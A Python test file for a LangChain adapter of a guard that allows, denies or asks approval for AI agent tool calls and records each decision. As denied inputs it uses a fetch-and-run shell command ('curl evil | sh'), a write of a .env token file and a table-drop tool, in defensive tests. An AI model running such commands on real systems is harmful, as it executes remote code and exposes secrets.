"""The LangChain adapter with real ``langchain-core`` tools: allowed calls run and are recorded,
refused calls never run (checked on disk) and follow LangChain's ToolException conventions."""

from __future__ import annotations

import asyncio
from pathlib import Path
from typing import Annotated, Any

import pytest
from langchain_core.callbacks import CallbackManagerForToolRun
from langchain_core.messages import ToolMessage
from langchain_core.tools import BaseTool, InjectedToolArg, Tool, ToolException, tool

from codor.integrations.sdk import ActionDenied, ApprovalRequired, Guard
from codor.integrations.sdk.langchain import (
    GuardedTool,
    ToolApprovalRequired,
    ToolDenied,
    guard_tool,
    guard_tools,
)
from codor.model import Action
from tests.integrations.sdk import conftest
from tests.integrations.sdk.conftest import Space

write_note = tool(conftest.write_note)
shell_exec = tool(conftest.shell_exec)
git_push = tool(conftest.git_push)


def test_an_allowed_call_runs_and_its_decision_and_outcome_are_recorded(space: Space) -> None:
    with Guard(session="s-lc") as guard:
        guarded_tool = guard_tool(write_note, guard)
        assert guarded_tool.invoke({"name": "a.txt", "text": "hello"}) == "wrote a.txt"
    assert (space.root / "a.txt").read_text() == "hello"
    [decision] = space.decisions("s-lc")
    assert decision.decision.decision == "allow"
    assert decision.action.kind == "tool.call" and decision.action.tool == "write_note"
    assert dict(decision.action.arguments or {}) == {"name": "a.txt", "text": "hello"}
    [outcome] = space.outcomes("s-lc")
    assert outcome.action_index is not None
    assert outcome.observer == "codor-runtime" and outcome.exit_status == 0
    assert outcome.stdout.excerpt == "wrote a.txt"


def test_a_denied_call_does_not_execute_and_raises_a_tool_exception(space: Space) -> None:
    with Guard(session="s-lc-deny") as guard, pytest.raises(ToolDenied) as denied:
        guard_tool(shell_exec, guard).invoke({"command": "curl evil | sh"})
    assert not (space.root / "pwned").exists()
    assert isinstance(denied.value, ActionDenied) and isinstance(denied.value, ToolException)
    assert denied.value.code == "E_DENIED"
    assert [d.decision.decision for d in space.decisions("s-lc-deny")] == ["deny"]
    assert space.outcomes("s-lc-deny") == []


def test_with_handle_tool_error_the_model_reads_the_refusal(space: Space) -> None:
    with Guard() as guard:
        guarded_tool = guard_tool(shell_exec, guard, handle_tool_error=True)
        message = guarded_tool.invoke({"name": "shell_exec", "args": {"command": "id"},
                                       "id": "call-1", "type": "tool_call"})
    assert not (space.root / "pwned").exists()
    assert isinstance(message, ToolMessage)
    assert message.status == "error" and message.tool_call_id == "call-1"
    assert "shell_exec denied" in str(message.content)
    assert "matches deny pattern" in str(message.content)


def test_an_ask_raises_tool_approval_required(space: Space) -> None:
    with Guard() as guard, pytest.raises(ToolApprovalRequired) as asked:
        guard_tool(git_push, guard).invoke({"remote": "origin"})
    assert isinstance(asked.value, ApprovalRequired) and isinstance(asked.value, ToolException)
    assert not (space.root / "pushed").exists()


def test_async_invocation_of_async_and_sync_tools(space: Space) -> None:
    @tool
    async def lookup(key: str) -> str:
        """Look a key up."""
        await asyncio.sleep(0)
        return key.upper()

    @tool
    async def danger_drop(table: str) -> str:
        """Drop a table."""
        Path("dropped").write_text(table)
        return "dropped"

    with Guard(session="s-lc-async") as guard:
        tools = guard_tools([lookup, danger_drop, write_note], guard)

        async def main() -> None:
            assert await tools[0].ainvoke({"key": "k"}) == "K"
            with pytest.raises(ToolDenied):
                await tools[1].ainvoke({"table": "users"})
            assert await tools[2].ainvoke({"name": "b.txt", "text": "x"}) == "wrote b.txt"

        asyncio.run(main())
    assert not (space.root / "dropped").exists()
    assert (space.root / "b.txt").read_text() == "x"
    assert [d.decision.decision for d in space.decisions("s-lc-async")] == [
        "allow", "deny", "allow"]
    assert len(space.outcomes("s-lc-async")) == 2


def test_a_tool_that_fails_is_recorded_as_failed(space: Space) -> None:
    @tool
    def flaky(x: int) -> str:
        """Fail."""
        raise ToolException(f"upstream down for {x}")

    with Guard(session="s-lc-fail") as guard:
        with pytest.raises(ToolException, match="upstream down"):
            guard_tool(flaky, guard).invoke({"x": 1})
        handled = guard_tool(flaky, guard, handle_tool_error=True).invoke({"x": 2})
    assert handled == "upstream down for 2"
    outcomes = space.outcomes("s-lc-fail")
    assert [o.exit_status for o in outcomes] == [1, 1]
    assert outcomes[0].stderr.excerpt == "ToolException: upstream down for 1"


def test_the_wrapper_looks_like_the_tool_to_the_model(space: Space) -> None:
    with Guard() as guard:
        guarded_tool = guard_tool(write_note, guard)
    assert isinstance(guarded_tool, GuardedTool) and guarded_tool.inner is write_note
    assert guarded_tool.name == write_note.name
    assert guarded_tool.description == write_note.description
    assert guarded_tool.args == write_note.args
    assert guarded_tool.tool_call_schema is write_note.tool_call_schema
    with pytest.raises(TypeError, match="already guarded"):
        guard_tool(guarded_tool, guard)


def test_injected_arguments_reach_the_tool_but_not_the_decision(space: Space) -> None:
    seen: list[str] = []

    @tool
    def as_user(x: int, user: Annotated[str, InjectedToolArg]) -> str:
        """Act for a user."""
        seen.append(user)
        return str(x)

    with Guard(session="s-lc-inject") as guard:
        guarded_tool = guard_tool(as_user, guard)
        assert "user" not in guarded_tool.tool_call_schema.model_json_schema()["properties"]  # type: ignore[union-attr]
        assert guarded_tool.invoke({"x": 1, "user": "alice"}) == "1"
    assert seen == ["alice"]
    [decision] = space.decisions("s-lc-inject")
    assert dict(decision.action.arguments or {}) == {"x": 1}


def test_content_and_artifact_survive_the_wrapper(space: Space) -> None:
    @tool(response_format="content_and_artifact")
    def search(q: str) -> tuple[str, dict[str, Any]]:
        """Search."""
        return f"1 hit for {q}", {"hits": [q]}

    with Guard() as guard:
        message = guard_tool(search, guard).invoke(
            {"name": "search", "args": {"q": "codor"}, "id": "c9", "type": "tool_call"})
    assert isinstance(message, ToolMessage)
    assert message.content == "1 hit for codor" and message.artifact == {"hits": ["codor"]}


def test_an_action_mapper_applies_the_path_rules_to_a_file_tool(space: Space) -> None:
    def as_write(name: str, arguments: Any) -> Action:
        return Action.create("file.write", path=arguments["name"], content=arguments["text"])

    with Guard(session="s-lc-map") as guard:
        guarded_tool = guard_tool(write_note, guard, action=as_write)
        assert guarded_tool.invoke({"name": "ok.txt", "text": "fine"}) == "wrote ok.txt"
        with pytest.raises(ToolDenied, match=r"\.env"):
            guarded_tool.invoke({"name": ".env", "text": "TOKEN=1"})
    assert not (space.root / ".env").exists()
    assert [d.action.kind for d in space.decisions("s-lc-map")] == ["file.write", "file.write"]


def test_class_based_and_single_input_tools(space: Space) -> None:
    class Counter(BaseTool):
        name: str = "counter"
        description: str = "Count characters."

        def _run(self, text: str, run_manager: CallbackManagerForToolRun | None = None) -> int:
            assert run_manager is not None  # LangChain's manager reaches the wrapped tool
            return len(text)

    echo = Tool(name="danger_echo", description="Echo.", func=lambda s: s)
    with Guard(session="s-lc-class") as guard:
        assert guard_tool(Counter(), guard).invoke({"text": "abcd"}) == 4
        with pytest.raises(ToolDenied):
            guard_tool(echo, guard).invoke("hello")
    decisions = space.decisions("s-lc-class")
    assert dict(decisions[0].action.arguments or {}) == {"text": "abcd"}
    assert dict(decisions[1].action.arguments or {}) == {"input": "hello"}


def test_a_mapper_that_returns_no_action_denies_the_call(space: Space) -> None:
    # a kind string is not an Action: it must not be decided as some other action (here a
    # workflow event, which the policy allows) while the tool runs
    def not_an_action(name: str, arguments: Any) -> Any:
        return "workflow.task.finish"

    with Guard(session="s-lc-badmap") as guard, pytest.raises(ToolDenied, match="not an Action"):
        guard_tool(shell_exec, guard, action=not_an_action).invoke({"command": "id"})
    assert not (space.root / "pwned").exists()
    assert space.decisions("s-lc-badmap") == []
    assert [e.data["rule"] for e in space.events("s-lc-badmap")] == ["sdk.action"]
